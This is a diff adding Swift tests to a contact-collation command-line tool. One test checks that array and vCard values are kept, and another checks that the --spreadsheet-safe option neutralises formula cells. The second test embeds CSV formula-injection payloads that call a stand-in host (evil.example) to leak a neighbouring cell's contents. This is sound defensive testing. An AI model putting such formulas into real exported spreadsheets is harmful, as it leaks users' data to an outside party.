@@ -221,4 +221,36 @@ import TestSupport
         #expect(result.status == 2)
         #expect(result.stderr.contains(message), "\(result.stderr)")
     }
+
+    /// No value is dropped: a JSON array gives every element (a `null` as an
+    /// empty value, `true` as written, a nested value as its JSON text), and
+    /// vCard text that only begins with `data:` is text; a photo's URI is not.
+    @Test func noValueIsDroppedSilently() throws {
+        let json = try CollateRunner.file("{\"n\":\"Zed\",\"phones\":[null,\"+49 30 1234\"]}\n{\"n\":\"Anna\",\"phones\":[\"+1 555 0100\",true,\"+1 555 0199\",{\"o\": 1}]}\n", name: "p.jsonl")
+        let rows = try CollateRunner.run(["-l", "en", "--key", "n", "-f", "csv", "--columns", "n,phones", json]).stdout
+        #expect(rows == "section,title,n,phones\n0,A,Anna,\"+1 555 0100; true; +1 555 0199; {\"\"o\"\": 1}\"\n25,Z,Zed,; +49 30 1234\n", "\(rows)")
+        let card = try CollateRunner.file("BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Zed\r\nTITLE:Data:Scientist\r\nNOTE:data: migration plan\r\nPHOTO:data:image/png;base64,iVBORw0KGgo=\r\nEND:VCARD\r\n", name: "d.vcf")
+        let cells = try CollateRunner.run(["-l", "en", "-f", "csv", "--columns", "FN,TITLE,NOTE,PHOTO", card]).stdout
+        #expect(cells == "section,title,FN,TITLE,NOTE,PHOTO\n25,Z,Zed,Data:Scientist,data: migration plan,\n", "\(cells)")
+    }
+
+    /// `--spreadsheet-safe` neutralises every cell: the header row copied
+    /// from CSV input and a table's titles too, and the warning counts them.
+    @Test func theHeaderRowAndTitlesAreCellsToo() throws {
+        let csv = try CollateRunner.file("\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"Click\"\")\",phone\r\nZed,+1 555 0100\r\n", name: "header.csv")
+        let safe = try CollateRunner.run(["-l", "en", "-f", "csv", "--spreadsheet-safe", csv])
+        #expect(safe.stdout.hasPrefix("section,title,\"'=HYPERLINK("), "\(safe.stdout)")
+        let plain = try CollateRunner.run(["-l", "en", "-f", "csv", csv])
+        #expect(plain.stdout.hasPrefix("section,title,\"=HYPERLINK("))
+        #expect(plain.stderr.contains("1 cell begins with =, +, -, @"), "\(plain.stderr)")
+        var table = try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
+            .deletingLastPathComponent().appendingPathComponent("Locales/en.json"))) as! [String: Any]
+        var titles = table["sectionTitles"] as! [String]
+        titles[0] = "=HYPERLINK(\"http://evil.example/\")"
+        (table["id"], table["sectionTitles"]) = ("f", titles)
+        let tablePath = try CollateRunner.file(try JSONSerialization.data(withJSONObject: table), name: "f.json")
+        let titled = try CollateRunner.run(["--table", tablePath, "-f", "csv", "--spreadsheet-safe"], stdin: "Anna\n")
+        #expect(titled.stdout == "section,title,record\n0,\"'=HYPERLINK(\"\"http://evil.example/\"\")\",Anna\n", "\(titled.stdout)")
+    }
 }
+
